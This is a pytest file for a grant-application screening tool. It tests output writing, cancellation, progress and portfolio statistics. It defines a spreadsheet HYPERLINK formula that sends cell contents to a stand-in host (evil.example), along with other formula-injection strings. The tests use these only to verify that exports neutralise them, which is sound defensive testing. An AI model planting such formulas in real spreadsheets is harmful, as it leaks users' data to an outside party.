"""End to end: file in, results out — injection-safe, atomic, cancellable, accounted for."""

from __future__ import annotations

import csv
import io
import threading
from pathlib import Path

import openpyxl
import pytest
from pypdf import PdfReader

from assessment.screening.outputs import neutralise, to_bytes, to_json, write_results
from assessment.screening.progress import Cancelled, Progress
from assessment.screening.run import ScreeningRun, run_screening
from tests.unit.test_screening_helpers import (
    HEADER,
    NO_EDGES,
    as_cells,
    csv_bytes,
    eruf,
    good_row,
    xlsx_bytes,
)

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka här")'


def _run(rows: list[dict[str, str]], name: str = "in.csv") -> ScreeningRun:
    return run_screening(csv_bytes(rows), name, eruf())


@pytest.mark.parametrize("text", [EVIL, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_neutralise_makes_formula_like_text_inert(text: str) -> None:
    assert neutralise(text) == "'" + text
    assert neutralise("Vanlig text = ok") == "Vanlig text = ok"


def test_hyperlink_formula_is_not_live_in_written_xlsx(tmp_path: Path) -> None:
    row = as_cells(good_row("X1"))
    row[HEADER.index("applicant")] = EVIL
    row[HEADER.index("title")] = "@SUM(1+1)"
    run = run_screening(xlsx_bytes([row]), "in.xlsx", eruf())
    out = write_results(run, tmp_path / "out.xlsx")
    book = openpyxl.load_workbook(out)
    sheet = book.worksheets[0]
    cells = [c for r in sheet.iter_rows() for c in r]
    assert not any(c.data_type == "f" for c in cells)
    applicant = next(c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value)
    assert applicant.data_type == "s" and applicant.value == "'" + EVIL
    assert any(c.value == "'@SUM(1+1)" for c in cells)


def test_hyperlink_formula_is_neutralised_in_csv(tmp_path: Path) -> None:
    run = _run([good_row("X1", applicant=EVIL, title="-1+1")])
    out = write_results(run, tmp_path / "out.csv", "en")
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig")), delimiter=";"))
    assert rows[0][:3] == ["Row", "Status", "Case id"]
    assert rows[1][3] == "'" + EVIL and rows[1][7] == "'-1+1"
    for row in rows[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


def test_output_has_one_row_per_input_row_in_file_order(tmp_path: Path) -> None:
    run = _run([good_row("A"), good_row("B", amount="mycket"), good_row("C")])
    assert (run.rows_in, run.rows_out, run.rows_rejected) == (3, 2, 1)
    sheet = openpyxl.load_workbook(write_results(run, tmp_path / "o.xlsx", "sv")).worksheets[0]
    values = list(sheet.iter_rows(values_only=True))
    assert [v[0] for v in values] == ["Rad", 2, 3, 4]
    assert [v[1] for v in values[1:]] == ["granskad", "avvisad", "granskad"]
    assert "mycket" in values[2][-1]
    assert str(values[1][17]).startswith("UTKAST")


def test_control_characters_and_huge_cells_do_not_break_the_xlsx(tmp_path: Path) -> None:
    run = _run([good_row("A", title="Titel\x00med\x07styrtecken", social="ŋ" * 40_000)])
    out = write_results(run, tmp_path / "o.xlsx")
    values = list(openpyxl.load_workbook(out).worksheets[0].iter_rows(values_only=True))
    assert values[1][7] == "Titelmedstyrtecken"


def test_cancel_leaves_no_file_and_no_temp_file(tmp_path: Path) -> None:
    run = _run([good_row(f"A{i}") for i in range(600)])
    target = tmp_path / "o.xlsx"
    target.write_bytes(b"previous results")
    cancel = threading.Event()
    seen: list[Progress] = []

    def progress(p: Progress) -> None:
        seen.append(p)
        if p.stage == "write" and p.done >= 250:
            cancel.set()

    with pytest.raises(Cancelled):
        write_results(run, target, progress=progress, cancel=cancel)
    assert target.read_bytes() == b"previous results"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["o.xlsx"]
    assert any(p.stage == "write" for p in seen)


def test_cancel_during_import_via_callback() -> None:
    with pytest.raises(Cancelled):
        run_screening(
            csv_bytes([good_row(f"A{i}") for i in range(600)]), "in.csv", eruf(), cancel=lambda: True
        )


def test_progress_reports_rows_and_rate() -> None:
    seen: list[Progress] = []
    run_screening(csv_bytes([good_row(f"A{i}") for i in range(300)]), "in.csv", eruf(), progress=seen.append)
    screen = [p for p in seen if p.stage == "screen"]
    assert screen[-1].done == 300 and screen[-1].total == 300 and screen[-1].fraction == 1.0
    assert screen[-1].rate > 0
    assert [p.done for p in seen if p.stage == "read"][-1] == 300


def test_unknown_output_type_and_missing_folder(tmp_path: Path) -> None:
    run = _run([good_row()])
    from assessment.errors import ValidationFailed

    with pytest.raises(ValidationFailed):
        write_results(run, tmp_path / "o.docx")
    with pytest.raises(ValidationFailed):
        write_results(run, tmp_path / "missing" / "o.csv")


def test_pdf_summary_contains_accounting_and_flagged_applications(tmp_path: Path) -> None:
    run = _run(
        [
            good_row("OK1"),
            good_row("P<&>", sdg_claims="", applicant="Sámi ŋđčŧï"),
            good_row("Bad", amount="x"),
        ]
    )
    out = write_results(run, tmp_path / "s.pdf", "sv")
    text = "\n".join(page.extract_text() for page in PdfReader(out).pages)
    assert "Sammanfattning av hållbarhetsgranskning" in text
    assert "P<&>" in text and "ŋđčŧï" in text
    assert "Rad 4, fält amount" in text


def test_portfolio_makes_social_better_integrated_visible() -> None:
    rows = [
        good_row(f"S{i}", ecological="", economic="kort", sdg_claims="5:+2: Fler kvinnor i arbete i butiken")
        for i in range(8)
    ] + [good_row("E1"), good_row("E2")]
    # Without interaction hints, only the eight thin applications carry flags.
    portfolio = run_screening(csv_bytes(rows), "in.csv", eruf(), latent=NO_EDGES).portfolio()
    dims = portfolio.dimensions
    assert dims.loc["social", "described"] == 1.0
    assert dims.loc["ecological", "described"] == pytest.approx(0.2)
    assert portfolio.weakest_dimensions()[-1] == "social"
    assert portfolio.goals.loc[5, "positive"] == 10
    assert portfolio.flagged_share == pytest.approx(0.8)
    assert portfolio.by_municipality.loc["Bräcke", "applications"] == 10


def test_json_and_download_bytes() -> None:
    run = _run([good_row("A"), good_row("B", amount="x")])
    data = to_json(run, "en")
    assert (data["rows_in"], data["rows_out"], data["rows_rejected"]) == (2, 1, 1)
    assert data["rejected"][0]["problems"][0]["field"] == "amount"
    assert data["applications"][0]["draft_motivation"].startswith("DRAFT")
    assert to_bytes(run, ".csv").startswith(b"\xef\xbb\xbf")
    assert to_bytes(run, ".xlsx")[:2] == b"PK"


def test_officers_edited_motivation_replaces_the_draft_in_outputs(tmp_path: Path) -> None:
    run = _run([good_row("A"), good_row("B")])
    run.edited["B"] = "Handläggarens egen motivering."
    values = list(
        openpyxl.load_workbook(write_results(run, tmp_path / "o.xlsx"))
        .worksheets[0]
        .iter_rows(values_only=True)
    )
    assert str(values[1][17]).startswith("UTKAST")
    assert values[2][17] == "Handläggarens egen motivering."
    data = to_json(run)
    assert [a["motivation_edited"] for a in data["applications"]] == [False, True]
